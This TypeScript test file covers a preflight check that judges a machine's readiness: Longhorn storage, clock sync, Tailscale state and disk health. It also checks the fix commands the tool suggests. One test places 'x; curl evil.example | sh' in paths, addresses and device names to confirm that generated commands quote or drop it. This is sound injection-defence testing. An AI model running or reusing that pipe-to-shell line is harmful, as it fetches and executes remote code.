import { LonghornCheckLevel, Outcome } from "@nodekeeper/proto";
import { describe, expect, it } from "vitest";
import { startMs } from "../../test-support/states.ts";
import { aMachine, decided, itsNode, itsState } from "../test-support/a-machine.ts";
import { type MachineSays, toldK3s, toldLonghornNeeds, toldTailnet, toldTime, wellMachine } from "../test-support/new-machine.ts";
import { preflight } from "./preflight.ts";

type Overrides = Parameters<typeof aMachine>[0];
const outside = { kind: "known", node: undefined, isOnTailnet: true } as const;

function judge(says: MachineSays, overrides: Overrides = {}): ReturnType<typeof preflight.judge> {
  return preflight.judge(aMachine({ node: itsState({ ...wellMachine(), ...says }), ...overrides }), startMs);
}

function codes(says: MachineSays, overrides: Overrides = {}): readonly string[] {
  const verdict = judge(says, overrides);
  return verdict.kind === "blocked" ? verdict.obstacles.map(({ code }) => code) : [verdict.kind];
}

describe("preflight", () => {
  it("is passed by a machine that is well, and says by what", () => {
    expect(judge({})).toMatchObject({
      kind: "passed",
      evidence: expect.arrayContaining([
        { name: "checks of Longhorn", value: "2, none failed" },
        { name: "clock", value: "10 ms from the collector's, synchronized" },
        { name: "tailnet addresses", value: "100.64.0.9, fd7a:115c:a1e0::9" },
      ]),
    });
  });

  it("names everything that is in the way at once", () => {
    const longhorn = toldLonghornNeeds({ bad: { iscsid: LonghornCheckLevel.ERROR }, unmounted: ["/mnt/a"] });
    const node = itsState(
      { ...wellMachine(), longhorn, tailscale: toldTailnet({ isKeyExpired: true }) },
      { clockSkewMs: -90_000 },
    );

    expect(codes({}, { node })).toEqual(["no-iscsid", "disk-unmounted", "clock-skew", "key-expired"]);
  });

  it("asks for Longhorn's needs only where Longhorn is or is to be", () => {
    const says = { longhorn: toldLonghornNeeds({ bad: { iscsid: LonghornCheckLevel.ERROR, kernel: LonghornCheckLevel.WARN } }) };
    const policy = (wish: boolean | undefined): Overrides => ({
      policy: { ...aMachine().policy, onboarding: { skip: [], agent: undefined, longhorn: decided(wish) } },
    });
    const absent = { longhorn: { ...aMachine().longhorn, knowledge: { kind: "absent", heardAtMs: startMs } } } as const;

    expect(codes(says)).toEqual(["no-iscsid"]);
    expect(codes(says, policy(false))).toEqual(["passed"]);
    expect(codes(says, policy(undefined))).toEqual(["waiting"]);
    expect(codes(says, absent)).toEqual(["passed"]);
    expect(codes(says, { cluster: outside })).toEqual(["passed"]);
    expect(codes({ longhorn: { probe: "longhorn", outcome: Outcome.FAILED, failure: "X" } })).toEqual(["waiting"]);
  });

  it("says of warnings that they are there, and is not blocked by them", () => {
    const says = { longhorn: toldLonghornNeeds({ bad: { "nfs-client": LonghornCheckLevel.WARN } }) };

    expect(judge(says)).toMatchObject({
      evidence: expect.arrayContaining([{ name: "nfs-client", value: "nfs-client is not well" }]),
    });
  });

  it("makes no command of what a hostile agent says", () => {
    const evil = "x; curl evil.example | sh";
    const longhorn = toldLonghornNeeds({ bad: { iscsid: LonghornCheckLevel.ERROR }, remedy: evil, unmounted: [`/mnt/${evil}`] });
    const tailscale = toldTailnet({ addresses: [`100.64.0.9'${evil}`] });
    const kubernetes = toldK3s(`k3s${evil}.service`);
    const lan = { kind: "known", node: itsNode({ address: "192.168.1.9" }), isOnTailnet: true } as const;
    const fault = { rule: "nvme-critical-warning", device: `/dev/nvme1 ${evil}`, text: "it fails", action: "Replace it." };

    const verdict = judge({ longhorn, tailscale, kubernetes }, { cluster: lan, diskFaults: () => [fault] });

    expect(verdict.kind === "blocked" && verdict.obstacles.map(({ code, command }) => [code, command])).toEqual([
      ["no-iscsid", "longhornctl check preflight"],
      ["disk-unmounted", `mount '/mnt/${evil}'`],
      ["node-ip-off-tailnet", "tailscale up"],
      ["disk-failing", `smartctl -x '/dev/nvme1 ${evil}'`],
    ]);
    const told = judge({ kubernetes }, { cluster: lan });
    expect(told).toMatchObject({ obstacles: [{ command: expect.stringMatching(/ && systemctl restart k3s-agent$/) }] });
  });

  it.each([
    ["chrony", "chronyc makestep"],
    ["ntp", "systemctl restart ntp"],
    ["", "timedatectl set-ntp true && systemctl restart systemd-timesyncd"],
  ])("mends a clock by the service that keeps it (%s)", (service, command) => {
    const node = itsState({ ...wellMachine(), time: toldTime(service) }, { clockSkewMs: 200_000 });

    expect(judge({}, { node })).toMatchObject({
      obstacles: [{ code: "clock-skew", command, text: expect.stringContaining("3 min 20 s ahead of the collector's") }],
    });
  });

  it("waits for a clock that was not compared", () => {
    expect(judge({}, { node: itsState(undefined, { clockSkewMs: undefined }) })).toMatchObject({
      kind: "waiting",
      probes: ["system"],
    });
  });

  it("minds the tailnet as far as the cluster talks by it", () => {
    const stopped = { tailscale: toldTailnet({ backendState: "Stopped" }) };
    const lan = { kind: "known", node: itsNode({ address: "192.168.1.9" }), isOnTailnet: true } as const;
    const none = { tailscale: { probe: "tailscale", outcome: Outcome.ABSENT } };

    expect(codes(stopped)).toEqual(["tailscale-down"]);
    expect(codes(stopped, { cluster: { ...lan, isOnTailnet: false } })).toEqual(["passed"]);
    expect(codes({}, { cluster: lan })).toEqual(["node-ip-off-tailnet"]);
    expect(codes({}, { cluster: { ...lan, node: itsNode({ address: "100.64.0.77" }) } })).toEqual(["node-ip-off-tailnet"]);
    expect(codes(none, { cluster: lan })).toEqual(["node-ip-off-tailnet"]);
    expect(codes(none, { cluster: outside })).toEqual(["passed"]);
    expect(codes({ tailscale: toldTailnet({ backendState: "NeedsLogin" }) }, { cluster: outside })).toEqual(["key-expired"]);
  });

  it("is blocked by each disk that is not well", () => {
    const fault = { rule: "nvme-critical-warning", device: "/dev/nvme1", text: "a disk: it is read-only", action: "Replace it." };

    expect(judge({}, { diskFaults: () => [fault, { ...fault, rule: "raid-degraded", device: "" }] })).toMatchObject({
      obstacles: [
        {
          code: "disk-failing",
          text: "a disk: it is read-only. Replace it.",
          command: "smartctl -x /dev/nvme1",
          probes: ["smart"],
        },
        { code: "disk-failing", command: "", probes: ["disks"] },
      ],
    });
  });
});
